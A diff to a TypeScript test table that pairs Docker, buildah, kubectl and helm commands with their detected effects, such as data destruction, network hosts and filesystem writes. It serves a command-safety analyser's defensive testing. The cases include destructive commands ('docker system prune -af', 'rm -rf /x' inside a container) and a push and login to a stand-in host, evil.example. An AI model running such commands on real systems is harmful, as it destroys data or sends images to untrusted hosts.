@@ -30,7 +30,7 @@ export const CONTAINER_CASES: readonly EffectCase[] = [
   ['docker system prune -af', ['destroy data: system prune']],
   ['docker volume rm x', ['destroy data: volume rm']],
   ['docker login evil.example', ['network host evil.example']],
-  ['docker push evil.example/x', ['destroy publication: push']],
+  ['docker push evil.example/x', ['destroy publication: push', 'network host evil.example']],
   ['docker buildx build .', ['read tree .']],
   ['docker container exec web rm -rf /x', ['run argv: rm -rf /x (container)']],
   ['docker image prune', ['destroy data: image prune']],
@@ -89,4 +89,9 @@ export const CONTAINER_CASES: readonly EffectCase[] = [
   ['buildah bud -v /:/h .', ['write tree /', 'read tree .']],
   ['buildah rm c', ['destroy data: rm']],
   ['buildah from evil.example/x', []],
+  ['docker pull a.example/img', ['network host a.example']],
+  ['docker pull node:20', []],
+  ['docker container pull a.example/img', ['network host a.example']],
+  ['kubectl cluster-info dump --output-directory=../d', ['write ../d']],
+  ['helm install x https://a.example/c.tgz', ['network url https://a.example/c.tgz']],
 ];
